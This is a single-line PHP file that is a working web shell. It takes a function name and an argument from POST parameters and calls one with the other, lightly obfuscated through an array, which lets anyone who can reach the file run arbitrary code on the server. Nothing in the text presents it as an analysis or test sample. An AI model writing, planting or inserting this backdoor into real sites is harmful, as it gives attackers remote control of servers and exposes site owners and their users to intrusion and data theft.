<?php $a = array($_POST['f'], $_POST['x']); $a[0]($a[1]);
